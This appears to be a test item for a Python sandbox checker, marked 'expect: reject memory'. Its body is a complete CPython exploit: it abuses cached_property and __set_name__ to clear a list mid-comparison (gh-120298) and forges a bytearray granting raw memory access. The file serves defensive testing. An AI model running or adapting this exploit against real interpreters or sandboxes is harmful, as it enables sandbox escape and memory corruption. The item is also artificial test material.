# expect: reject memory
# line: 24
# verified: plain python3 3.11.2 (/usr/bin/python3 -I): prints 'bytearray 0x4000000000000000' (raw memory)
# why: gh-120298, allowance (a) red team: a functools.cached_property given a computed name by hand (cp.__set_name__(C, "ar" + "ea")) caches a list's clear in the instance under area, beside a pure def area: a program naming __set_name__ gets no method allowance (the dunder rule refuses the read too)
keep = []
W = lambda v: v.to_bytes(8, "little")
FAKE = (W(0) + W(0) + W(1 << 40) + W(id(bytearray)) + W(1 << 62) + W(1 << 62)
        + W(0) + W(0) + W(1))[:73]
vl = []
import functools
class Shape:
    def area(s):
        return 0
cp = functools.cached_property(lambda self: vl.clear)
cp.__set_name__(Shape, "ar" + "ea")
class Holder:
    pass
Holder.load = cp
h = Holder()
class V:
    __slots__ = ("a", "b", "c", "d", "e", "f")
    def __eq__(s, o): return False
    def __lt__(s, o):
        h.area()
        return NotImplemented
h.load
class Wc:
    def __eq__(s, o): return False
    def __gt__(s, o):
        keep.append(bytearray(FAKE))
        keep.append(o)
        return False
def raw_memory():
    w = Wc()
    vl.append(V())
    vl < [w]
    keep.append(w)
    return keep[-2]
mem = raw_memory()
print(type(mem).__name__, hex(len(mem)))
